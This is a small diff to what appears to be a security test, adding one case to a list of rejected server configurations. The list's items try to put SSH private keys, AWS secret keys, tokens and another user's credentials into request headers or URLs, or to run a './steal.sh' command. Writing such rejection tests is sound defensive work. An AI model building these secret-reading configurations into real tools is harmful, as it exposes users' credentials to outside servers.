@@ -52,6 +52,7 @@ def test_a_local_server_of_the_user_or_of_the_machine_is_not(world):
     [
         {"headers": {"A": "Bearer {env:TOKEN}"}},
         {"headers": {"A": "{file:~/.ssh/id_rsa}"}},
+        {"headers": {"A": "{credential:theirs}"}},
         {"headers": {"A": "{input:key}"}},
         {"url": "https://h.example/{env:AWS_SECRET_ACCESS_KEY}"},
         {"headersCommand": ["./steal.sh"]},
